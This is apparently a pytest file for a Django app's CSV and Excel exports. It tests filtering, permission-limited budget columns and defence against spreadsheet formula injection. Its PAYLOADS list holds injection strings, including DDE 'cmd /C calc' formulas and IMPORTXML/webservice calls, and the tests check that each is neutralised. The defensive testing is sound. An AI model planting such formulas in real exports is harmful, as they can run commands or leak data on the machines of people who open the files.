"""What leaves as CSV or as a workbook is what the list shows, and nothing in it runs."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from python_calamine import CalamineWorkbook

from pmo.lib.exports import CELL_LIMIT, About, csv_lines, safe_for_csv, write_workbook
from pmo.lib.tables import Column, Due, Link, Money, Slip
from portfolio.models import Project
from tests.factories import make_project

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org","x")',
    '=IMPORTXML(CONCAT("http://a",A1),"//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   +1",
    "\u00a0=1",
    "\u3000=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " ＝1",
    "=",
    "+",
    "-",
    "@",
    '="x"',
    "=A1:B2",
    "=1;2",
    "==1",
    "+-1",
    "-+1",
    "=-1",
    "=TRUE",
    '=webservice("http://x")',
    '=DDE("cmd";"/C calc";"x")',
    "\t@x",
    "\r-x",
    "--1",
    "+=1",
]


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def workbook(response) -> CalamineWorkbook:
    return CalamineWorkbook.from_filelike(io.BytesIO(b"".join(response.streaming_content)))


def test_there_are_forty_payloads():
    assert len(set(PAYLOADS)) == 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_cell_of_a_csv_is_a_formula(payload):
    assert safe_for_csv(payload).startswith("'")


@pytest.mark.parametrize("value", [-5, Decimal("-1234.50"), 0, 17, Decimal("0.10")])
def test_numbers_stay_numbers_in_a_csv(value):
    assert Decimal(str(safe_for_csv(value))) == Decimal(str(value))


@pytest.mark.parametrize("text", ["P-2215", "On plan", "a=b", "1 - 2", "", "Über"])
def test_harmless_text_is_left_alone(text):
    assert safe_for_csv(text) == text


def test_control_characters_are_left_out():
    assert safe_for_csv("a\x00b\x0bc") == "abc"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_workbook_holds_formula_text_as_text(payload):
    file = io.BytesIO()
    column = Column("name", "Name", lambda row: row)
    write_workbook(file, [column], [payload], About("Names", "Pia", timezone.now()))
    rows = (
        CalamineWorkbook.from_filelike(io.BytesIO(file.getvalue())).get_sheet_by_name("Rows").to_python(skip_empty_area=False)
    )
    assert str(rows[1][0]).strip() == payload.strip().replace("\r", "\n").strip()


def test_a_workbook_has_no_formula_cell():
    import zipfile

    file = io.BytesIO()
    write_workbook(file, [Column("name", "Name", lambda row: row)], PAYLOADS, About("Names", "Pia", timezone.now()))
    sheet = zipfile.ZipFile(io.BytesIO(file.getvalue())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    assert b"<f " not in sheet


def test_a_workbook_keeps_types_and_says_where_it_comes_from():
    day = dt.date(2026, 12, 4)
    columns = [
        Column("link", "Project", lambda row: Link("Alpha", "/x/")),
        Column("money", "Budget", lambda row: Money(Decimal("-1234.50"), "GBP", "million")),
        Column("slip", "Slip", lambda row: Slip(-3)),
        Column("due", "Due", lambda row: Due(day, True)),
        Column("none", "Nothing", lambda row: None),
    ]
    file = io.BytesIO()
    write_workbook(file, columns, [1], About("Projects", "Pia Orlov", timezone.now(), [("Phase", "Build")]))
    book = CalamineWorkbook.from_filelike(io.BytesIO(file.getvalue()))
    assert book.get_sheet_by_name("Rows").to_python()[1] == ["Alpha", -1234.5, -3.0, day, ""]
    about = dict(row[:2] for row in book.get_sheet_by_name("About").to_python())
    assert about["Exported by"] == "Pia Orlov"
    assert about["Rows"] == "1"
    assert about["Filter: Phase"] == "Build"


def test_a_text_longer_than_a_cell_is_cut_and_shows_it():
    file = io.BytesIO()
    write_workbook(file, [Column("t", "Text", lambda row: row)], ["x" * (CELL_LIMIT + 10)], About("T", "Pia", timezone.now()))
    cell = CalamineWorkbook.from_filelike(io.BytesIO(file.getvalue())).get_sheet_by_name("Rows").to_python()[1][0]
    assert len(cell) == CELL_LIMIT
    assert cell.endswith("…")


def test_a_csv_is_made_line_by_line():
    seen = []

    def rows():
        for number in range(3):
            seen.append(number)
            yield number

    lines = csv_lines([Column("n", "Number", lambda row: row)], rows())
    next(lines)
    next(lines)
    assert seen == [0]


def test_the_csv_has_exactly_the_filtered_sorted_rows_and_visible_columns(client, pia):
    make_project(code="P-1", name="=cmd", phase="build")
    make_project(code="P-2", name="Beta", phase="build")
    make_project(code="P-3", name="Gamma", phase="test")
    client.force_login(pia)
    rows = csv_rows(client.get("/projects.csv?phase=build&sort=-code&columns=code&columns=phase"))
    assert rows == [["Code", "Project", "Phase"], ["P-2", "Beta", "Build"], ["P-1", "'=cmd", "Build"]]


def test_the_workbook_has_the_same_rows_and_names_the_filter(client, pia):
    make_project(code="P-1", name="Alpha", phase="build")
    make_project(code="P-3", name="Gamma", phase="test")
    client.force_login(pia)
    book = workbook(client.get("/projects.xlsx?phase=test&columns=code"))
    assert book.get_sheet_by_name("Rows").to_python() == [["Code", "Project"], ["P-3", "Gamma"]]
    assert ["Filter: Phase", "Test"] in book.get_sheet_by_name("About").to_python()


def test_exports_have_every_row_and_not_one_page(client, pia):
    for number in range(60):
        make_project(code=f"X-{number:03}")
    client.force_login(pia)
    assert len(csv_rows(client.get("/projects.csv?per_page=25&page=2"))) == 61


def test_an_amount_leaves_with_its_currency_and_unit(client, pia):
    make_project(code="UK-1", name="Uk", currency="GBP", amount_unit=1_000_000, budget_amount=Decimal("12.40"))
    client.force_login(pia)
    rows = csv_rows(client.get("/projects.csv?columns=budget"))
    assert rows == [["Project", "Budget", "Currency", "Unit of amounts"], ["Uk", "12.40", "GBP", "1000000"]]


def test_nobody_exports_money_that_they_may_not_see(client, tess, alpha):
    Project.objects.filter(pk=alpha.pk).update(budget_amount=Decimal(777_777))
    client.force_login(tess)
    for ending in ("csv", "xlsx"):
        content = b"".join(client.get(f"/projects.{ending}?columns=budget&columns=code").streaming_content)
        assert b"777777" not in content
    assert csv_rows(client.get("/projects.csv?columns=budget&columns=code"))[0] == ["Code", "Project"]


def test_a_project_manager_exports_the_money_of_their_own_projects_only(client, max, alpha, beta):
    Project.objects.filter(pk=alpha.pk).update(budget_amount=Decimal(111))
    Project.objects.filter(pk=beta.pk).update(budget_amount=Decimal(222))
    client.force_login(max)
    rows = csv_rows(client.get("/projects.csv?columns=budget"))
    assert rows[1:] == [["Alpha", "111.00", "USD", "1"], ["Beta", "", "", ""]]


def test_the_order_of_the_list_does_not_betray_amounts_that_are_hidden(client, max, alpha, beta):
    Project.objects.filter(pk=alpha.pk).update(budget_amount=Decimal(999))
    Project.objects.filter(pk=beta.pk).update(budget_amount=Decimal(1))
    client.force_login(max)
    names = [row[0] for row in csv_rows(client.get("/projects.csv?columns=budget&sort=budget"))[1:]]
    assert names == ["Alpha", "Beta"]
